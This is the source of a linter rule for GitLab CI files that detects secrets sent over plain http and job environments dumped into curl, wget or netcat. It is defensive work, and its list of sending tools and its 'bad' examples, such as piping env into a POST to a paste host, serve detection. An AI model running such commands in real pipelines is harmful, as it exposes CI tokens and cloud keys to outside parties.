import { type Finding, type Fix, rule } from '../../core/rule';
import { replace, textOf } from '../../core/text';
import type { ShellCommand } from '../../formats/shell/syntax';
import type { ShellWord } from '../../formats/shell/word';
import { expandedVariables } from '../shared/expanded-variables';
import { linesIn } from '../shared/gitlab-scripts';
import { namesSecret } from '../shared/secret-name';

const SENDERS: ReadonlySet<string | undefined> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat']);

/** `http:` to a machine on the open network: its name has a dot, and is none of a private one. */
const PLAIN =
  /^http:\/\/(?:[^/@]*@)?(?!localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)[\w-]+(?:\.[\w-]+)+(?=[:/?]|$)/i;
const PRIVATE = /\.(?:local|localdomain|internal|intern|intranet|lan|home|corp|test|svc|docker)(?=[:/?]|$)/i;

export default rule({
  id: 'gitlab-ci/secret-sent-away',
  title: 'Secret sent where others can read it',
  why: [
    'A token in a request over `http:` can be read by every machine on the way: a wireless network, a proxy, a provider. Whoever has the token may do what the job may.',
    'Where all variables of the job are sent, by `env | curl`, its secrets go along: GitLab’s own token, the keys of the cloud, whatever the group hands down. That is how stolen pipelines give their secrets away.',
  ],
  severity: 'warning',
  practice: 'secrets',
  since: '0.1.0',
  fixes: 'suggested',
  equivalents: ['checkov:CKV_GITLABCI_1'],
  links: ['https://docs.gitlab.com/ci/variables/#cicd-variable-security'],
  bad: [
    {
      files:
        'notify:\n  script:\n    - \'curl -H "Authorization: Bearer «$API_TOKEN»" http://hooks.example.com/build\'\n',
      fixed:
        'notify:\n  script:\n    - \'curl -H "Authorization: Bearer $API_TOKEN" https://hooks.example.com/build\'\n',
    },
    {
      title: 'all variables',
      files:
        'debug:\n  script:\n    - «env» | curl -X POST --data-binary @- https://paste.example.com\n    - curl -d "$(«printenv»)" https://paste.example.com\n',
    },
  ],
  good: [
    'notify:\n  script:\n    - \'curl -H "PRIVATE-TOKEN: $API_TOKEN" https://hooks.example.com/build\'\n',
    {
      title: 'machines of its own network',
      files:
        'test:\n  services: [vault]\n  script:\n    - curl -H "X-Vault-Token:$VAULT_TOKEN" http://vault:8200/v1/sys/health\n    - curl -u "ci:$NEXUS_PASSWORD" http://nexus.corp/repository/\n    - curl -u "ci:$NEXUS_PASSWORD" http://10.0.0.7/repository/\n',
    },
    {
      title: 'nothing secret, or not filled in',
      files:
        'test:\n  script:\n    - curl "http://example.com/builds/$CI_COMMIT_SHA"\n    - curl http://example.com/$TOKEN_NAME\n    - echo \'curl http://example.com -d $API_TOKEN\'\n',
    },
    {
      title: 'one variable, or only looked at',
      files: 'test:\n  script:\n    - printenv CI_COMMIT_SHA | curl -d @- https://example.com\n    - env | sort\n',
    },
  ],
  *check(model) {
    for (const { shell } of linesIn(model)) {
      for (const command of shell.commands) {
        if (SENDERS.has(command.name)) yield* secretIn(command);
        else if (writesAll(command) && sends(command)) yield allOf(command);
      }
    }
  },
});

/** A secret in a request that everybody on the way can read. */
function* secretIn(command: ShellCommand): Generator<Finding> {
  const url = command.words.find(({ prefix }) => PLAIN.test(prefix) && !PRIVATE.test(hostOf(prefix)));
  if (!url) return;
  for (const word of command.words.slice(1)) {
    for (const { name, at } of expandedVariables(word)) {
      if (!namesSecret(name)) continue;
      yield {
        at,
        message: `\`${name}\` goes over \`http:\`, where every machine on the way can read it: send it by \`https:\``,
        fix: byTls(url),
      };
      return;
    }
  }
}

function hostOf(url: string): string {
  return url.split('/', 3).join('/');
}

function byTls(url: ShellWord): Fix | undefined {
  const at = url.raw.indexOf('http://');
  const from = url.spanFrom(Math.max(at, 0));
  const scheme = { ...from, end: from.start + 'http:'.length };
  return textOf(scheme) === 'http:' ? { title: 'Send it by https', edits: [replace(scheme, 'https:')] } : undefined;
}

/** Whether a command writes every variable there is. */
function writesAll({ name, words }: ShellCommand): boolean {
  if (name === 'env' || name === 'printenv') return words.length === 1;
  return name === 'export' && words.length === 2 && words[1]?.value === '-p';
}

/** Whether what a command writes goes to another machine, by a pipe or in a word. */
function sends({ pipedInto, within }: ShellCommand): boolean {
  const seen = new Set<ShellCommand>();
  for (let next = pipedInto; next && !seen.has(next); next = next.pipedInto) {
    if (SENDERS.has(next.name)) return true;
    seen.add(next);
  }
  return within?.as === 'substitution' && SENDERS.has(within.command?.name);
}

function allOf({ span }: ShellCommand): Finding {
  return {
    at: span,
    severity: 'error',
    message: 'This sends all variables of the job, its secrets among them: send those that are needed by name',
  };
}
